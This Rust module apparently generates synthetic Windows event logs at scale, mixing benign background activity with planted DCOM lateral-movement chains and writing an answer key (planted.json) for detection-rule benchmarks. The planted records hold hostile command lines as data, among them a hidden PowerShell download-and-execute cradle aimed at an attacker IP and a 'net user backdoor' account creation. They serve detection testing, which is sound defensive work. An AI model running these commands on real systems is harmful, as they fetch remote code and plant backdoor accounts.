//! Scale mode: N hosts × M events of benign background with K planted DCOM attacks, for
//! benchmarks and memory tests. One folder per host, one file per log; the planted attacks
//! are listed in `planted.json` (see [`ScaleSummary`]).
//!
//! Every fourth host logs with Security auditing only (4688/4689/5156, no Sysmon); the others
//! have Sysmon and Security. Background never contains `mmc.exe` or `mshta.exe`, and every
//! process `svchost -k DcomLaunch` starts is on the RPC→DCOMLaunch rule's allow-list, so each
//! planted attack is the only finding of its kind.

use std::fs::File;
use std::io::BufWriter;
use std::path::{Path, PathBuf};

use rayon::prelude::*;
use serde::{Deserialize, Serialize};

use super::WriterError;
use super::binxml::{FieldType, Value, format_filetime, format_sysmon_utc, parse_sid};
use super::file::{EventRecord, EvtxWriter};
use super::scenario::parse_base;
use super::schema::{Layout, Log, SysmonGen, find_layout};

pub const RULE_MMC: &str = "51ce96fb-9e52-4dad-b0ba-99b54440fc9a";
pub const RULE_MSHTA: &str = "622ecb68-fa81-4601-90b5-f8cd661e4520";
pub const RULE_RPC_DCOMLAUNCH: &str = "d58035ff-0bac-4c61-a7f4-f58939ff9764";

#[derive(Debug, Clone, Copy)]
pub struct ScaleOptions {
    pub hosts: usize,
    /// Background events per host (attacks come on top).
    pub events: usize,
    /// Planted attacks in all, spread over the hosts.
    pub attacks: usize,
    pub seed: u64,
}

/// `planted.json`: what was written and which attacks it holds.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct ScaleSummary {
    pub seed: u64,
    pub hosts: usize,
    pub events: u64,
    pub bytes: u64,
    /// Files, relative to the output folder, sorted.
    pub files: Vec<String>,
    pub attacks: Vec<PlantedAttack>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct PlantedAttack {
    /// `System/Computer`.
    pub host: String,
    /// The rule that must find it.
    pub rule_id: String,
    /// `mmc`, `mshta` or `rpc_dcomlaunch`.
    pub chain: String,
    /// `sysmon` or `security`.
    pub logging: String,
    pub first_time: String,
    pub last_time: String,
    /// The chain's records, in time order.
    pub records: Vec<PlantedRecord>,
}

#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct PlantedRecord {
    /// Relative to the output folder.
    pub file: String,
    pub record_id: u64,
    pub event_id: u16,
    pub time: String,
}

/// SplitMix64: small, fast, and the same on every platform (also the crate's tests' source of
/// reproducible random values).
pub(crate) struct Rng(pub(crate) u64);

impl Rng {
    pub(crate) fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    pub(crate) fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

const SECOND: u64 = 10_000_000;

/// Values for `layout`, in its field order: `set` ones, the rest type defaults.
fn record(layout: &'static Layout, t: u64, set: &[(&str, Value)]) -> EventRecord {
    let values = layout
        .fields
        .iter()
        .map(|(name, field_type)| {
            if let Some((_, v)) = set.iter().find(|(n, _)| n == name) {
                return v.clone();
            }
            match (*name, field_type) {
                ("UtcTime", _) => Value::Str(format_sysmon_utc(t)),
                ("Protocol", FieldType::Str) => Value::Str("tcp".into()),
                ("Protocol", FieldType::U32) => Value::U32(6),
                ("TokenElevationType", _) => Value::Str("%%1936".into()),
                ("MandatoryLabel", _) => Value::Sid(parse_sid("S-1-16-16384").unwrap_or_default()),
                ("SubjectUserSid", _) => Value::Sid(parse_sid("S-1-5-18").unwrap_or_default()),
                (_, FieldType::Str) => Value::Str(String::new()),
                (_, FieldType::U8) => Value::U8(0),
                (_, FieldType::U16) => Value::U16(0),
                (_, FieldType::U32) => Value::U32(0),
                (_, FieldType::U64) => Value::U64(0),
                (_, FieldType::Bool) => Value::Bool(false),
                (_, FieldType::Guid) => Value::Guid([0; 16]),
                (_, FieldType::FileTime) => Value::FileTime(t),
                (_, FieldType::Sid) => Value::Sid(parse_sid("S-1-0-0").unwrap_or_default()),
                (_, FieldType::HexInt32) => Value::HexInt32(0),
                (_, FieldType::HexInt64 | FieldType::SizeT) => Value::HexInt64(0),
            }
        })
        .collect();
    let (process_id, thread_id) = match layout.log {
        Log::Sysmon => (2140, 3012),
        _ => (4, 8),
    };
    EventRecord {
        layout,
        filetime: t,
        process_id,
        thread_id,
        values,
    }
}

fn s(v: &str) -> Value {
    Value::Str(v.to_owned())
}

/// A process of the synthetic host.
#[derive(Clone)]
struct Proc {
    guid: [u8; 16],
    pid: u32,
    image: String,
    command_line: String,
    user: String,
}

fn layout(log: Log, id: u16) -> Result<&'static Layout, WriterError> {
    find_layout(log, id, SysmonGen::Recent).ok_or(WriterError::Scenario {
        file: "scale".into(),
        message: format!("no layout for {log:?} {id}"),
    })
}

/// One host's three writers and what it has written.
struct HostWriter {
    name: String,
    dir: String,
    ip: String,
    sysmon: Option<EvtxWriter<BufWriter<File>>>,
    security: EvtxWriter<BufWriter<File>>,
    system: EvtxWriter<BufWriter<File>>,
    rng: Rng,
    host_index: u64,
    next_guid: u64,
    /// PIDs of processes that have not exited: Windows never reuses those.
    pids_in_use: std::collections::HashSet<u32>,
    events: u64,
}

impl HostWriter {
    fn emit(&mut self, event: &EventRecord) -> Result<Option<PlantedRecord>, WriterError> {
        let log = event.layout.log;
        let writer = match log {
            Log::Sysmon => match self.sysmon.as_mut() {
                Some(w) => w,
                None => return Ok(None),
            },
            Log::Security => &mut self.security,
            Log::System => &mut self.system,
        };
        let record_id = writer.write(event)?;
        self.events += 1;
        Ok(Some(PlantedRecord {
            file: format!("{}/{}", self.dir, log.file_name()),
            record_id,
            event_id: event.layout.event_id,
            time: format_filetime(event.filetime),
        }))
    }

    /// A random PID that no living process holds (PIDs are reused only after an exit).
    fn free_pid(&mut self) -> u32 {
        const SLOTS: u32 = 60_000;
        let start = self.rng.below(u64::from(SLOTS)) as u32;
        // Probe from a random slot; a host can't hold more live processes than slots.
        (0..SLOTS)
            .map(|k| 400 + 4 * ((start + k) % SLOTS))
            .find(|&pid| self.pids_in_use.insert(pid))
            .unwrap_or(400 + 4 * start)
    }

    fn new_proc(&mut self, image: &str, command_line: &str, user: &str) -> Proc {
        self.next_guid += 1;
        let mut guid = [0u8; 16];
        guid[..4].copy_from_slice(&(0x6a3b_0000 | (self.host_index as u32 & 0xffff)).to_le_bytes());
        guid[8..16].copy_from_slice(&self.next_guid.to_be_bytes());
        Proc {
            guid,
            pid: self.free_pid(),
            image: image.to_owned(),
            command_line: command_line.to_owned(),
            user: user.to_owned(),
        }
    }

    /// Process start, in Sysmon 1 and Security 4688.
    fn start(
        &mut self,
        t: u64,
        p: &Proc,
        parent: &Proc,
        out: &mut Vec<PlantedRecord>,
    ) -> Result<(), WriterError> {
        let name = |x: &str| x.rsplit('\\').next().unwrap_or(x).to_owned();
        let sysmon = record(
            layout(Log::Sysmon, 1)?,
            t,
            &[
                ("ProcessGuid", Value::Guid(p.guid)),
                ("ProcessId", Value::U32(p.pid)),
                ("Image", s(&p.image)),
                ("OriginalFileName", s(&name(&p.image))),
                ("CommandLine", s(&p.command_line)),
                ("CurrentDirectory", s("C:\\Windows\\system32\\")),
                ("User", s(&p.user)),
                ("IntegrityLevel", s("System")),
                ("ParentProcessGuid", Value::Guid(parent.guid)),
                ("ParentProcessId", Value::U32(parent.pid)),
                ("ParentImage", s(&parent.image)),
                ("ParentCommandLine", s(&parent.command_line)),
                ("ParentUser", s(&parent.user)),
            ],
        );
        let security = record(
            layout(Log::Security, 4688)?,
            t + 1,
            &[
                ("SubjectUserName", s(&format!("{}$", self.name))),
                ("SubjectDomainName", s("CORP")),
                ("SubjectLogonId", Value::HexInt64(0x3e7)),
                ("NewProcessId", Value::HexInt64(p.pid.into())),
                ("NewProcessName", s(&p.image)),
                ("ProcessId", Value::HexInt64(parent.pid.into())),
                ("CommandLine", s(&p.command_line)),
                (
                    "TargetUserSid",
                    Value::Sid(parse_sid("S-1-0-0").unwrap_or_default()),
                ),
                ("TargetUserName", s("-")),
                ("TargetDomainName", s("-")),
                ("ParentProcessName", s(&parent.image)),
            ],
        );
        out.extend(self.emit(&sysmon)?);
        out.extend(self.emit(&security)?);
        Ok(())
    }

    /// Process exit, in Sysmon 5 and Security 4689.
    fn exit(&mut self, t: u64, p: &Proc) -> Result<(), WriterError> {
        let sysmon = record(
            layout(Log::Sysmon, 5)?,
            t,
            &[
                ("ProcessGuid", Value::Guid(p.guid)),
                ("ProcessId", Value::U32(p.pid)),
                ("Image", s(&p.image)),
                ("User", s(&p.user)),
            ],
        );
        let security = record(
            layout(Log::Security, 4689)?,
            t + 1,
            &[
                ("SubjectUserName", s(&format!("{}$", self.name))),
                ("SubjectDomainName", s("CORP")),
                ("SubjectLogonId", Value::HexInt64(0x3e7)),
                ("ProcessId", Value::HexInt64(p.pid.into())),
                ("ProcessName", s(&p.image)),
            ],
        );
        self.emit(&sysmon)?;
        self.emit(&security)?;
        Ok(())
    }

    /// A TCP connection, in Sysmon 3 (recent convention: initiator in Source*) and 5156
    /// (local side in Source*).
    #[allow(clippy::too_many_arguments)]
    fn connect(
        &mut self,
        t: u64,
        p: &Proc,
        inbound: bool,
        remote: (&str, u16),
        local_port: u16,
        out: &mut Vec<PlantedRecord>,
    ) -> Result<(), WriterError> {
        let local = (self.ip.clone(), local_port);
        let (src, dst) = if inbound {
            ((remote.0.to_owned(), remote.1), local.clone())
        } else {
            (local.clone(), (remote.0.to_owned(), remote.1))
        };
        let sysmon = record(
            layout(Log::Sysmon, 3)?,
            t,
            &[
                ("ProcessGuid", Value::Guid(p.guid)),
                ("ProcessId", Value::U32(p.pid)),
                ("Image", s(&p.image)),
                ("User", s(&p.user)),
                ("Initiated", Value::Bool(!inbound)),
                ("SourceIp", s(&src.0)),
                ("SourcePort", Value::U16(src.1)),
                ("DestinationIp", s(&dst.0)),
                ("DestinationPort", Value::U16(dst.1)),
            ],
        );
        let application = format!(
            "\\device\\harddiskvolume2{}",
            p.image.trim_start_matches("C:").to_lowercase()
        );
        let wfp = record(
            layout(Log::Security, 5156)?,
            t + 2,
            &[
                ("ProcessID", Value::U64(p.pid.into())),
                ("Application", s(&application)),
                ("Direction", s(if inbound { "%%14592" } else { "%%14593" })),
                ("SourceAddress", s(&local.0)),
                ("SourcePort", s(&local.1.to_string())),
                ("DestAddress", s(remote.0)),
                ("DestPort", s(&remote.1.to_string())),
                ("FilterRTID", Value::U64(68_447)),
                ("LayerName", s(if inbound { "%%14610" } else { "%%14611" })),
                ("LayerRTID", Value::U64(if inbound { 44 } else { 48 })),
            ],
        );
        out.extend(self.emit(&sysmon)?);
        out.extend(self.emit(&wfp)?);
        Ok(())
    }
}

const SYSTEM_USER: &str = "NT AUTHORITY\\SYSTEM";

struct Boot {
    services: Proc,
    dcomlaunch: Proc,
    rpcss: Proc,
    explorer: Proc,
}

fn boot(h: &mut HostWriter, t: u64) -> Result<Boot, WriterError> {
    let system = record(
        layout(Log::System, 12)?,
        t,
        &[
            ("MajorVersion", Value::U32(10)),
            ("BuildVersion", Value::U32(19045)),
            ("StartTime", Value::FileTime(t - SECOND)),
        ],
    );
    h.emit(&system)?;
    h.emit(&record(layout(Log::Security, 4608)?, t + 3 * SECOND, &[]))?;
    h.emit(&record(layout(Log::System, 6005)?, t + 12 * SECOND, &[]))?;
    h.emit(&record(
        layout(Log::Sysmon, 4)?,
        t + 9 * SECOND,
        &[
            ("State", s("Started")),
            ("Version", s("15.15")),
            ("SchemaVersion", s("4.90")),
        ],
    ))?;
    let wininit = h.new_proc(
        "C:\\Windows\\System32\\wininit.exe",
        "wininit.exe",
        SYSTEM_USER,
    );
    let services = h.new_proc(
        "C:\\Windows\\System32\\services.exe",
        "C:\\Windows\\system32\\services.exe",
        SYSTEM_USER,
    );
    let dcomlaunch = h.new_proc(
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
        SYSTEM_USER,
    );
    let rpcss = h.new_proc(
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k RPCSS -p",
        "NT AUTHORITY\\NETWORK SERVICE",
    );
    let explorer = h.new_proc(
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "CORP\\alice",
    );
    let mut sink = Vec::new();
    h.start(t + 10 * SECOND, &services, &wininit, &mut sink)?;
    h.start(
        t + 10 * SECOND + 2_000_000,
        &dcomlaunch,
        &services,
        &mut sink,
    )?;
    h.start(t + 10 * SECOND + 4_000_000, &rpcss, &services, &mut sink)?;
    h.start(t + 40 * SECOND, &explorer, &services, &mut sink)?;
    Ok(Boot {
        services,
        dcomlaunch,
        rpcss,
        explorer,
    })
}

/// Emit one background activity at `t`; returns how far the clock moved.
fn background(
    h: &mut HostWriter,
    b: &Boot,
    t: u64,
    live: &mut Vec<Proc>,
) -> Result<u64, WriterError> {
    let mut sink = Vec::new();
    let roll = h.rng.below(100);
    if roll < 25 && !live.is_empty() {
        let i = h.rng.below(live.len() as u64) as usize;
        let p = live.swap_remove(i);
        h.exit(t, &p)?;
        h.pids_in_use.remove(&p.pid);
    } else if roll < 45 {
        // Allow-listed DCOM servers started by DcomLaunch.
        let (image, cl) = *h.rng.pick(&[
            ("C:\\Windows\\System32\\dllhost.exe", "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
            ("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"),
            ("C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"),
            ("C:\\Windows\\System32\\backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider"),
            ("C:\\Windows\\servicing\\TiWorker.exe", "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack\\TiWorker.exe -Embedding"),
        ]);
        let p = h.new_proc(image, cl, SYSTEM_USER);
        h.start(t, &p, &b.dcomlaunch, &mut sink)?;
        live.push(p);
    } else if roll < 65 {
        let (image, cl, parent) = *h.rng.pick(&[
            ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US", 0),
            ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility", 0),
            ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv", 1),
            ("C:\\Program Files\\Windows Defender\\MpCmdRun.exe", "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -SignatureUpdate", 1),
            ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", 1),
        ]);
        let (parent, user) = if parent == 0 {
            (&b.explorer, "CORP\\alice")
        } else {
            (&b.services, SYSTEM_USER)
        };
        let p = h.new_proc(image, cl, user);
        h.start(t, &p, parent, &mut sink)?;
        live.push(p);
    } else if roll < 95 || live.is_empty() {
        // Outbound HTTPS from a live process (or svchost).
        let p = live.last().cloned().unwrap_or_else(|| b.services.clone());
        let ip = format!(
            "{}.{}.{}.{}",
            13 + h.rng.below(180),
            h.rng.below(256),
            h.rng.below(256),
            1 + h.rng.below(254)
        );
        let port = 49_152 + h.rng.below(16_000) as u16;
        h.connect(t, &p, false, (&ip, 443), port, &mut sink)?;
    } else {
        // An inbound RPC endpoint-mapper query that starts nothing.
        let ip = format!("10.20.{}.{}", h.rng.below(256), 1 + h.rng.below(254));
        let port = 49_152 + h.rng.below(16_000) as u16;
        h.connect(t, &b.rpcss.clone(), true, (&ip, port), 135, &mut sink)?;
    }
    Ok(SECOND / 20 + h.rng.below(SECOND / 2))
}

/// Plant one attack chain at `t`; returns its records and how long it took.
fn plant(
    h: &mut HostWriter,
    b: &Boot,
    t: u64,
    chain: usize,
) -> Result<(PlantedAttack, u64), WriterError> {
    let mut recs = Vec::new();
    let attacker = format!("10.66.{}.{}", h.rng.below(256), 1 + h.rng.below(254));
    let src_port = 49_152 + h.rng.below(16_000) as u16;
    let dcom_port = 49_664 + h.rng.below(300) as u16;
    let user = "CORP\\admin";
    let (rule, name, span) = match chain {
        0 => {
            let mmc = h.new_proc(
                "C:\\Windows\\System32\\mmc.exe",
                "C:\\Windows\\system32\\mmc.exe -Embedding",
                user,
            );
            let cmd = h.new_proc("C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\System32\\cmd.exe\" /Q /c whoami /all 1> \\\\127.0.0.1\\ADMIN$\\__1700000000.1 2>&1", user);
            h.start(t, &mmc, &b.dcomlaunch, &mut recs)?;
            h.connect(
                t + 7_000_000,
                &mmc,
                true,
                (&attacker, src_port),
                dcom_port,
                &mut recs,
            )?;
            h.start(t + 10_000_000, &cmd, &mmc, &mut recs)?;
            (RULE_MMC, "mmc", 2 * SECOND)
        }
        1 => {
            let mshta = h.new_proc(
                "C:\\Windows\\System32\\mshta.exe",
                "C:\\Windows\\System32\\mshta.exe -Embedding",
                user,
            );
            let ps = h.new_proc("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://10.66.0.5/a')", user);
            h.start(t, &mshta, &b.dcomlaunch, &mut recs)?;
            h.connect(
                t + 12_280_000,
                &mshta,
                true,
                (&attacker, src_port),
                dcom_port,
                &mut recs,
            )?;
            h.start(t + 20_000_000, &ps, &mshta, &mut recs)?;
            (RULE_MSHTA, "mshta", 3 * SECOND)
        }
        _ => {
            let excel = h.new_proc("C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" /automation -Embedding", user);
            let cmd = h.new_proc(
                "C:\\Windows\\System32\\cmd.exe",
                "cmd.exe /c net user backdoor P@ssw0rd /add",
                user,
            );
            h.connect(
                t,
                &b.rpcss.clone(),
                true,
                (&attacker, src_port),
                135,
                &mut recs,
            )?;
            h.start(t + 4_000_000, &excel, &b.dcomlaunch, &mut recs)?;
            h.start(t + 15_000_000, &cmd, &excel, &mut recs)?;
            (RULE_RPC_DCOMLAUNCH, "rpc_dcomlaunch", 3 * SECOND)
        }
    };
    recs.sort_by(|a, b| (&a.time, &a.file, a.record_id).cmp(&(&b.time, &b.file, b.record_id)));
    let attack = PlantedAttack {
        host: h.name.clone(),
        rule_id: rule.to_owned(),
        chain: name.to_owned(),
        logging: if h.sysmon.is_some() {
            "sysmon"
        } else {
            "security"
        }
        .to_owned(),
        first_time: recs.first().map(|r| r.time.clone()).unwrap_or_default(),
        last_time: recs.last().map(|r| r.time.clone()).unwrap_or_default(),
        records: recs,
    };
    Ok((attack, span))
}

fn create(path: &Path) -> Result<BufWriter<File>, WriterError> {
    File::create(path)
        .map(|f| BufWriter::with_capacity(1 << 20, f))
        .map_err(|source| WriterError::File {
            path: path.to_owned(),
            source,
        })
}

fn write_host(
    opts: &ScaleOptions,
    out: &Path,
    index: usize,
    attacks: &[usize],
) -> Result<(Vec<PlantedAttack>, u64), WriterError> {
    let name = format!("WS{:04}.corp.example", index + 1);
    let dir = format!("WS{:04}", index + 1);
    let folder = out.join(&dir);
    std::fs::create_dir_all(&folder).map_err(|source| WriterError::File {
        path: folder.clone(),
        source,
    })?;
    let security_only = index % 4 == 3;
    let sysmon = if security_only {
        None
    } else {
        Some(EvtxWriter::new(
            create(&folder.join(Log::Sysmon.file_name()))?,
            &name,
            1,
        )?)
    };
    let mut h = HostWriter {
        ip: format!("10.10.{}.{}", (index / 250) % 256, 10 + index % 240),
        sysmon,
        security: EvtxWriter::new(create(&folder.join(Log::Security.file_name()))?, &name, 1)?,
        system: EvtxWriter::new(create(&folder.join(Log::System.file_name()))?, &name, 1)?,
        rng: Rng(opts.seed ^ (index as u64).wrapping_mul(0x2545_f491_4f6c_dd1d)),
        host_index: index as u64,
        next_guid: 0,
        pids_in_use: std::collections::HashSet::new(),
        events: 0,
        name,
        dir,
    };
    let start = parse_base("2026-11-01T08:00:00Z").unwrap_or(0) + index as u64 * 7 * SECOND;
    let b = boot(&mut h, start)?;
    let mut t = start + 6 * 60 * SECOND;
    let mut live = Vec::new();
    let mut planted = Vec::new();
    let per_attack = opts.events / (attacks.len() + 1);
    let mut next_attack = 0;
    let target = opts.events as u64;
    let mut emitted: u64 = 0;
    while emitted < target || next_attack < attacks.len() {
        if next_attack < attacks.len() && emitted >= ((next_attack + 1) * per_attack) as u64 {
            t += 5 * SECOND;
            let (attack, span) = plant(&mut h, &b, t, attacks[next_attack] % 3)?;
            planted.push(attack);
            t += span + 5 * SECOND;
            next_attack += 1;
            continue;
        }
        let before = h.events;
        t += background(&mut h, &b, t, &mut live)?;
        emitted += h.events - before;
    }
    let events = h.events;
    if let Some(w) = h.sysmon {
        w.finish()?;
    }
    h.security.finish()?;
    h.system.finish()?;
    Ok((planted, events))
}

/// Write the corpus into `out` (created if needed) and `out/planted.json`.
pub fn generate(opts: &ScaleOptions, out: &Path) -> Result<ScaleSummary, WriterError> {
    std::fs::create_dir_all(out).map_err(|source| WriterError::File {
        path: out.to_owned(),
        source,
    })?;
    let hosts = opts.hosts.max(1);
    let results: Vec<_> = (0..hosts)
        .into_par_iter()
        .map(|i| {
            let mine: Vec<usize> = (0..opts.attacks).filter(|a| a % hosts == i).collect();
            write_host(opts, out, i, &mine)
        })
        .collect::<Result<_, _>>()?;
    let mut attacks = Vec::new();
    let mut events = 0;
    for (planted, n) in results {
        attacks.extend(planted);
        events += n;
    }
    let mut files = Vec::new();
    let mut bytes = 0;
    for i in 0..hosts {
        let dir = format!("WS{:04}", i + 1);
        for log in Log::ALL {
            let path = out.join(&dir).join(log.file_name());
            if let Ok(meta) = std::fs::metadata(&path) {
                bytes += meta.len();
                files.push(format!("{dir}/{}", log.file_name()));
            }
        }
    }
    let summary = ScaleSummary {
        seed: opts.seed,
        hosts,
        events,
        bytes,
        files,
        attacks,
    };
    let json = serde_json::to_vec_pretty(&summary).map_err(|e| WriterError::Io(e.into()))?;
    let sidecar: PathBuf = out.join("planted.json");
    std::fs::write(&sidecar, json).map_err(|source| WriterError::File {
        path: sidecar,
        source,
    })?;
    Ok(summary)
}
